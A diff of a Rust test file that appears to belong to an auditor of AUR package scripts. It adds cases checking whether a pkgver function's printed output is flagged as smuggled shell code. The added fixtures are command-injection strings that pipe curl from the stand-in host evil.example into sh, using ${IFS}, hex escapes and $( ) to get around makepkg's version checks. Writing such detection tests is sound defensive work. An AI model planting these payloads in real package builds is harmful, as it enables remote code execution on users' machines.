@@ -429,9 +429,24 @@ fn a_colour_escape_in_pkgvers_message_is_no_shell_code() {
         r#"echo -e "\E[1m\E[31mCan't cd to ${srcdir}/gost-x build directory! PkgVer Failed! \E[0m""#,
     ));
     assert_eq!(max_of(&r, "AUR-VERSION-CODE"), None, "{}", r.to_text());
+    // makepkg's `check_pkgver` refuses a printed version with whitespace, `:`, `/` or `-` before
+    // writing it anywhere (the message above, and these): a payload must do without them.
     for line in [
-        r#"echo "1.0;curl${IFS}https://evil.example/x|sh""#,
-        r#"echo -e "1.0\x3bcurl${IFS}https://evil.example/x\x7csh""#,
+        r#"echo "1.0;curl evil.example|sh""#,
+        r#"echo "1.0;curl${IFS}evil.example|sh""#,
+        r#"printf '1;curl${IFS}https://evil.example/x|sh'"#,
+    ] {
+        let r = audit(&pkgver_prints(line));
+        assert_eq!(
+            max_of(&r, "AUR-VERSION-CODE"),
+            None,
+            "{line}\n{}",
+            r.to_text()
+        );
+    }
+    for line in [
+        r#"echo "1.0;curl\${IFS}evil.example|sh""#,
+        r#"echo -e "1.0\x3bcurl\${IFS}evil.example\x7csh""#,
         r#"printf '1.0$(curl${IFS}evil.example)'"#,
     ] {
         let r = audit(&pkgver_prints(line));
